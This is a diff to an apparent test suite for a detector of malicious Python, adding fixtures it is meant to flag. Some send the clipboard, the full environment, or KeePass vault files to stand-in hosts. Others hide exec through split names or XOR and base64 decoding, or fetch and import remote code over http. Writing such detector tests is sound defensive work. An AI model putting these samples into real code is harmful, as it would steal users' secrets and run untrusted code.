@@ -121,6 +121,27 @@ SENT = {
         "GITHUB_TOKEN",
         "203.0.113.9",
     ),
+    "what is put into a message": (
+        """
+        import pyperclip, smtplib
+        from email.message import EmailMessage
+        message = EmailMessage()
+        message.set_content(pyperclip.paste())
+        smtplib.SMTP("mx.example").send_message(message)
+        """,
+        "the clipboard",
+        "mx.example",
+    ),
+    "what is gathered in a list": (
+        """
+        import os, requests
+        found = []
+        found.append(dict(os.environ))
+        requests.post("https://g.example", json=found)
+        """,
+        "the whole environment",
+        "g.example",
+    ),
 }
 
 
@@ -165,6 +186,13 @@ CONCEALED = {
     "behind a switch": (
         'import base64, subprocess\nsubprocess.run(["python3", "-c", base64.b64decode("cHJpbnQ=").decode()])'
     ),
+    "through a name in pieces of a module in pieces": (
+        'getattr(__import__("built" + "ins"), "ex" + "ec")(bytes(each ^ 42 for each in data).decode())'
+    ),
+    "through the names of a module": ("import base64, builtins\nvars(builtins)['ex' + 'ec'](base64.b64decode(x))"),
+    "through the loaded modules": (
+        "import base64, sys\nsys.modules['builtins'].__dict__.get('exec')(base64.b64decode(x))"
+    ),
 }
 
 
@@ -197,6 +225,15 @@ DOWNLOADED = {
         STOP,
         "over plain http",
     ),
+    "as a module whose name is put together": (
+        (
+            'import importlib, pathlib, urllib.request\nname = "_".join(("dict", language))\n'
+            'file = pathlib.Path(__file__).parent / f"{name}.py"\n'
+            'file.write_bytes(urllib.request.urlopen("http://d.example/x.py").read())\nimportlib.import_module(name)'
+        ),
+        STOP,
+        "over plain http",
+    ),
     "by a library's own saving": (
         (
             'import os, urllib.request\nurllib.request.urlretrieve("https://get.example/i.sh", "/tmp/i.sh")\n'
@@ -213,6 +250,24 @@ def test_what_is_downloaded_is_run(text: str, level: AlarmLevel, source: str) ->
     (concern,) = found(text)
     assert (concern.kind, concern.level) == (ConcernKind.RUNS_DOWNLOADED, level)
     assert dict(concern.facts).get("source", "") == source
+
+
+def test_it_flows_through_an_attribute_that_one_script_alone_gives() -> None:
+    reading = """
+        from pathlib import Path
+        class Library:
+            def __init__(self):
+                self.profile = [each.read_bytes() for each in Path("~").expanduser().rglob("*.kdbx")]
+        """
+    sending = """
+        import websocket
+        class Bar:
+            def __init__(self, library):
+                self.library, self.link = library, websocket.create_connection("wss://p.example/bar")
+            def close(self):
+                self.link.send(self.library.profile)
+        """
+    assert [(each.kind, each.level) for each in found(reading, sending)] == [(ConcernKind.SENDS_PRIVATE, STOP)]
 
 
 def test_a_key_that_goes_to_another_service_is_read_first() -> None:
@@ -270,6 +325,23 @@ HARMLESS = {
     "a program of the file itself": """
         import subprocess, sys
         subprocess.run([sys.executable, "scripts/build.py"])
+        """,
+    "what a script gathers of its own": """
+        import requests
+        found = []
+        for path in paths:
+            found.append(path.read_text())
+        requests.post("https://api.example/v1", json=found)
+        """,
+    "a module by its name": """
+        import importlib, requests
+        Path("words.txt").write_bytes(requests.get("http://d.example/words.txt").content)
+        importlib.import_module(name)
+        """,
+    "a function by its name": """
+        import builtins, json
+        vars(builtins)["print"](json.loads(text))
+        getattr(json, "lo" + "ads")(text)
         """,
 }
 
